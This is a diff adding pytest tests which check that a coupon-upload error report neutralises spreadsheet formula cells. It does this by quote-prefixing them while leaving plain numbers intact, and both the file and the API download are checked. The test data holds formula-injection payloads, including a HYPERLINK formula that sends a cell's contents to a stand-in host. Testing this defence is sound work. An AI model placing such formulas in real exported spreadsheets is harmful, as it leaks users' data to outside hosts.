@@ -151,3 +151,26 @@ def test_upload_codes_refused_for_generated_series(run):
         run(CouponSeriesFactory(), "code\nX\n", "codes")
     with pytest.raises(UploadError):
         run(CouponSeriesFactory(code_mode=CouponSeries.CodeMode.RANDOMIZED_COMMON, code_prefix="AB"), "user_id\nx\n")
+
+
+FORMULA_IDENTIFIERS = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "-12.50", "+3"]
+SAFE_IDENTIFIERS = ['\'=HYPERLINK("http://x.example/?"&A1)', "'+SUM(A1:A9)", "'-2+3", "'@SUM(A1)", "-12.50", "+3"]
+
+
+def upload_with_formula_identifiers(run):
+    rows = "".join(f'"{value.replace(chr(34), chr(34) * 2)}"\n' for value in FORMULA_IDENTIFIERS)
+    return run(CouponSeriesFactory(), "external_id\n" + rows)
+
+
+def test_upload_report_file_neutralises_formula_cells_but_keeps_plain_numbers(run):
+    rows = report(upload_with_formula_identifiers(run))
+    assert [row["identifier"] for row in rows] == SAFE_IDENTIFIERS
+    assert {row["code"] for row in rows} == {"invalid_external_id"}
+
+
+def test_upload_report_download_through_the_api_is_neutralised(run, marketer):
+    upload = upload_with_formula_identifiers(run)
+    response = marketer.get(f"/api/v1/uploads/{upload.pk}/error-report")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert [row["identifier"] for row in rows] == SAFE_IDENTIFIERS
